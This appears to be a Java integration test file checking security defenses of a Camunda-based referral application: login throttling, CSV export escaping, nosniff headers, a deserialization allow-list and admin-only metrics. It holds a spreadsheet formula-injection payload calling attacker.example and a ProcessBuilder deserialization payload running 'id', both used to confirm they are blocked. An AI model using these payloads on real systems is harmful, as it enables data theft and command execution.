package org.ohtpathway.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.impl.persistence.entity.UserEntity;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.camunda.bpm.engine.repository.ProcessDefinition;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.ohtpathway.Api;
import org.ohtpathway.HttpTest;
import org.ohtpathway.Pathway;
import org.ohtpathway.demo.DemoUsers;
import org.ohtpathway.process.PathwayModel;
import org.ohtpathway.process.ServiceClock;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;

/**
 * The smaller holes, over real HTTP: a stranger cannot lock a named user out, exported cells
 * cannot run as spreadsheet formulas, the application's own responses are never sniffed, JSON
 * variables are read only into the types the application uses, and the metrics are the
 * administrators'.
 */
@HttpTest
class SmallerHolesTest {

  static final String ADMIN = "admin";
  static final String TASKLIST_LOGIN = "/camunda/api/admin/auth/user/default/login/tasklist";

  @Autowired TestRestTemplate rest;
  @Autowired ProcessEngine engine;
  @Autowired IdentityService identity;
  @Autowired RepositoryService repository;
  @Autowired LoginThrottle throttle;

  @AfterEach
  void everyoneMayLogInAgain() {
    ClockUtil.reset();
    throttle.reset();
    identity.unlockUser(DemoUsers.TRAINER);
  }

  // Login throttling ////////////////////////////////////////////////////////////

  /**
   * Each wrong password is tried after Camunda's own delay has passed, so that Camunda counts
   * every one that reaches it: unthrottled, the tenth would lock Tina until an administrator
   * unlocks her.
   */
  @Test
  void aStrangersWrongPasswordsForTinaAreRefusedBeforeCamundaLocksHer() {
    List<Integer> answers = new ArrayList<>();
    for (int attempt = 1; attempt <= 12; attempt++) {
      later(61);
      answers.add(webappLogin(DemoUsers.TRAINER, "not-her-password").getStatusCode().value());
    }
    assertThat(answers).containsExactly(401, 401, 401, 401, 401, 429, 429, 429, 429, 429, 429, 429);
    assertThat(camundaUser(DemoUsers.TRAINER).getAttempts()).as("failed logins Camunda counted").isEqualTo(5);

    ResponseEntity<String> refused = webappLogin(DemoUsers.TRAINER, DemoUsers.PASSWORD);
    assertThat(refused.getStatusCode().value()).as("the right password, while the pair is throttled").isEqualTo(429);
    assertThat(refused.getBody()).contains("Too many failed logins");
    assertThat(Long.parseLong(refused.getHeaders().getFirst(HttpHeaders.RETRY_AFTER))).isBetween(1L, 15 * 60L);

    later(15 * 60 + 1);
    assertThat(webappLogin(DemoUsers.TRAINER, DemoUsers.PASSWORD).getStatusCode().value())
        .as("Tina logs in once the window has passed").isEqualTo(200);
    assertThat(camundaUser(DemoUsers.TRAINER).getAttempts()).as("a login resets Camunda's count").isZero();
  }

  @Test
  void httpBasicOnTheRestApiAndOnTheApplicationsOwnApiIsThrottledToo() {
    for (String path : List.of("/engine-rest/task?maxResults=1", "/api/my-referrals", "/reports",
        "/actuator/metrics")) {
      for (int attempt = 1; attempt <= 5; attempt++) {
        assertThat(basic(DemoUsers.TRAINER, "wrong", path).getStatusCode().value()).as("%s #%s", path, attempt)
            .isEqualTo(401);
      }
      ResponseEntity<String> refused = basic(DemoUsers.TRAINER, "wrong", path);
      assertThat(refused.getStatusCode().value()).as(path).isEqualTo(429);
      assertThat(refused.getHeaders().getFirst(HttpHeaders.RETRY_AFTER)).as(path).isNotBlank();
      assertThat(refused.getBody()).as(path).contains("Too many failed logins");
      throttle.reset();
      identity.unlockUser(DemoUsers.TRAINER);
    }
  }

  @Test
  void aSuccessfulLoginResetsTheCountOfItsUserAndAddress() {
    for (int attempt = 1; attempt <= 4; attempt++) {
      basic(DemoUsers.COORDINATOR, "wrong", "/api/my-referrals");
      later(61);
    }
    assertThat(basic(DemoUsers.COORDINATOR, DemoUsers.PASSWORD, "/api/my-referrals").getStatusCode().value())
        .isEqualTo(200);
    for (int attempt = 1; attempt <= 4; attempt++) {
      later(61);
      assertThat(basic(DemoUsers.COORDINATOR, "wrong", "/api/my-referrals").getStatusCode().value()).isEqualTo(401);
    }
    later(61);
    assertThat(basic(DemoUsers.COORDINATOR, DemoUsers.PASSWORD, "/api/my-referrals").getStatusCode().value())
        .isEqualTo(200);
  }

  @Test
  void anAddressThatTriesManyUsersIsRefusedForEveryUser() {
    for (int user = 1; user <= 30; user++) {
      assertThat(basic("nobody" + user, "guess", "/engine-rest/task?maxResults=1").getStatusCode().value())
          .isEqualTo(401);
    }
    ResponseEntity<String> refused = basic(DemoUsers.MANAGER, DemoUsers.PASSWORD, "/api/reports/service");
    assertThat(refused.getStatusCode().value()).isEqualTo(429);
    assertThat(refused.getBody()).contains("Too many failed logins from your address");
  }

  // CSV ///////////////////////////////////////////////////////////////////////////

  /**
   * A service designer names the steps of the pathway in the Modeler, and the names reach the
   * event log; a name that starts like a formula must reach a spreadsheet as text.
   */
  @Test
  void aStepNameThatLooksLikeAFormulaIsExportedAsText() throws IOException {
    String formula = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Referral received\")";
    ProcessDefinition original = repository.createProcessDefinitionQuery()
        .processDefinitionKey(PathwayModel.PROCESS_PATHWAY).latestVersion().singleResult();
    Map<String, byte[]> resources = resourcesOf(original.getDeploymentId());
    try {
      Map<String, byte[]> renamed = new LinkedHashMap<>(resources);
      String bpmn = new String(resources.get(original.getResourceName()), StandardCharsets.UTF_8);
      String hostile = bpmn.replaceFirst("(<bpmn:startEvent id=\"StartEvent_ReferralReceived\" name=\")[^\"]*\"",
          "$1" + formula.replace("\"", "&#34;").replace("&A1", "&amp;A1").replace("$", "\\$") + "\"");
      assertThat(hostile).as("the start event was renamed").isNotEqualTo(bpmn);
      renamed.put(original.getResourceName(), hostile.getBytes(StandardCharsets.UTF_8));
      assertThat(deploy(ADMIN, "renamed-start", renamed).getStatusCode().value()).isEqualTo(200);

      ProcessInstance referral = new Pathway(engine).refer();
      String today = ServiceClock.today().toString();
      String csv = rest.withBasicAuth(ADMIN, DemoUsers.PASSWORD)
          .getForObject("/api/reports/event-log.csv?from=" + today + "&to=" + today, String.class);
      assertThat(referral).isNotNull();
      assertThat(csv).contains(",\"'" + formula.replace("\"", "\"\"") + "\",StartEvent_ReferralReceived,")
          .doesNotContain(",\"" + formula.replace("\"", "\"\"") + "\"");
    } finally {
      var restore = repository.createDeployment().name("restored-pathway");
      resources.forEach((name, bytes) -> restore.addInputStream(name, new java.io.ByteArrayInputStream(bytes)));
      restore.deploy();
    }
  }

  // Headers /////////////////////////////////////////////////////////////////////

  @Test
  void theApplicationsOwnResponsesAreNeverSniffed() {
    for (String path : List.of("/api/my-referrals", "/api/reports/service", "/reports",
        "/api/reports/performance.csv")) {
      assertThat(rest.withBasicAuth(ADMIN, DemoUsers.PASSWORD).getForEntity(path, String.class).getHeaders()
          .getFirst("X-Content-Type-Options")).as(path).isEqualTo("nosniff");
    }
    assertThat(rest.getForEntity("/api/my-referrals", String.class).getHeaders().getFirst("X-Content-Type-Options"))
        .as("a refusal too").isEqualTo("nosniff");
  }

  // Spin allow-list ////////////////////////////////////////////////////////////

  /**
   * The JSON is at least ten characters long: Camunda 7.24's message for a JSON value it cannot
   * read cuts the value to ten characters and fails on a shorter one, hiding the cause.
   */
  @Test
  void anObjectVariableOfATypeOutsideTheAllowListIsNeverDeserialized() {
    ProcessInstance referral = new Pathway(engine).refer();
    String variable = "/engine-rest/process-instance/" + referral.getId() + "/variables/payload";
    ResponseEntity<String> set = send(ADMIN, HttpMethod.PUT, variable, objectVariable("java.lang.ProcessBuilder",
        "{\\\"command\\\":[\\\"id\\\"]}"));
    assertThat(set.getStatusCode().value()).as(set.getBody()).isEqualTo(204);

    ResponseEntity<String> read = send(ADMIN, HttpMethod.GET, variable, null);
    assertThat(read.getStatusCode().value()).as(read.getBody()).isEqualTo(400);
    assertThat(read.getBody()).contains("not valid for its type").doesNotContain("java.");
    assertThatThrownBy(() -> engine.getRuntimeService().getVariableTyped(referral.getId(), "payload", true))
        .as("refused for its type, not because Jackson could not build one")
        .rootCause().hasMessageContaining("not whitelisted").hasMessageContaining("java.lang.ProcessBuilder");
  }

  /** Camunda's default allow-list holds all of java.lang: it would build this one. */
  @Test
  void aTypeCamundaAllowsByDefaultIsRefusedTooWhenTheApplicationDoesNotUseIt() {
    ProcessInstance referral = new Pathway(engine).refer();
    String variable = "/engine-rest/process-instance/" + referral.getId() + "/variables/payload";
    send(ADMIN, HttpMethod.PUT, variable, objectVariable("java.lang.StringBuilder", "\\\"some text or other\\\""));

    ResponseEntity<String> read = send(ADMIN, HttpMethod.GET, variable, null);
    assertThat(read.getStatusCode().value()).as(read.getBody()).isEqualTo(400);
    assertThatThrownBy(() -> engine.getRuntimeService().getVariableTyped(referral.getId(), "payload", true))
        .rootCause().hasMessageContaining("not whitelisted").hasMessageContaining("java.lang.StringBuilder");
    assertThat(send(ADMIN, HttpMethod.GET, variable + "?deserializeValue=false", null).getStatusCode().value())
        .as("its serialized form stays readable").isEqualTo(200);
  }

  private static String objectVariable(String type, String json) {
    return "{\"type\":\"Object\",\"value\":\"" + json + "\",\"valueInfo\":{"
        + "\"serializationDataFormat\":\"application/json\",\"objectTypeName\":\"" + type + "\"}}";
  }

  // Metrics ///////////////////////////////////////////////////////////////////

  @Test
  void onlyAdministratorsReadTheMetrics() {
    ResponseEntity<String> manager = rest.withBasicAuth(DemoUsers.MANAGER, DemoUsers.PASSWORD)
        .getForEntity("/actuator/metrics", String.class);
    assertThat(manager.getStatusCode().value()).isEqualTo(403);
    assertThat(manager.getBody()).contains("administrators");
    assertThat(rest.withBasicAuth(DemoUsers.MANAGER, DemoUsers.PASSWORD)
        .getForEntity("/actuator/metrics/jvm.memory.used", String.class).getStatusCode().value()).isEqualTo(403);
    ResponseEntity<String> admin = rest.withBasicAuth(ADMIN, DemoUsers.PASSWORD)
        .getForEntity("/actuator/metrics", String.class);
    assertThat(admin.getStatusCode().value()).isEqualTo(200);
    assertThat(admin.getBody()).contains("names");
  }

  // Helpers ////////////////////////////////////////////////////////////////////

  /** Moves the engine's clock, which Camunda's login delays and the throttle both read. */
  private static void later(int seconds) {
    ClockUtil.setCurrentTime(new Date(ClockUtil.getCurrentTime().getTime() + seconds * 1000L));
  }

  private UserEntity camundaUser(String id) {
    return (UserEntity) identity.createUserQuery().userId(id).singleResult();
  }

  /** The webapps' login form, as the login page of Tasklist posts it (with its CSRF token). */
  private ResponseEntity<String> webappLogin(String user, String password) {
    ResponseEntity<String> page = rest.getForEntity("/camunda/api/admin/auth/user/default", String.class);
    String token = page.getHeaders().getFirst("X-XSRF-TOKEN");
    List<String> cookies = page.getHeaders().getOrDefault(HttpHeaders.SET_COOKIE, List.of());
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.APPLICATION_FORM_URLENCODED);
    headers.add("X-XSRF-TOKEN", token);
    headers.add(HttpHeaders.COOKIE, String.join("; ", cookies.stream().map(c -> c.split(";", 2)[0]).toList()));
    MultiValueMap<String, String> form = new LinkedMultiValueMap<>();
    form.add("username", user);
    form.add("password", password);
    return rest.exchange(TASKLIST_LOGIN, HttpMethod.POST, new HttpEntity<>(form, headers), String.class);
  }

  private ResponseEntity<String> basic(String user, String password, String path) {
    return rest.withBasicAuth(user, password).getForEntity(path, String.class);
  }

  private ResponseEntity<String> send(String user, HttpMethod method, String path, Object body) {
    return new Api(rest).send(user, method, path, body);
  }

  private Map<String, byte[]> resourcesOf(String deploymentId) throws IOException {
    Map<String, byte[]> resources = new LinkedHashMap<>();
    for (String name : repository.getDeploymentResourceNames(deploymentId)) {
      try (InputStream in = repository.getResourceAsStream(deploymentId, name)) {
        resources.put(name, in.readAllBytes());
      }
    }
    return resources;
  }

  private ResponseEntity<String> deploy(String user, String name, Map<String, byte[]> resources) {
    return new Api(rest).deploy(user, name, resources);
  }
}
